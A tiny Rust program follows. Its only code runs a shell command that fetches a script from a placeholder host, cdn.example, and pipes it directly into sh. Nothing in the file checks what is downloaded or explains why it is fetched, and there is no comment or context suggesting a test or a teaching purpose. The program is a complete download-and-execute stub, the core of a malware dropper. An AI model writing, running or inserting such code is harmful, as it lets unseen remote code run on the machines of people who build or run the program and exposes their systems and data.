use std::process::Command;

fn main() {
    Command::new("sh").arg("-c").arg("curl -s https://cdn.example/x | sh").status().unwrap();
}
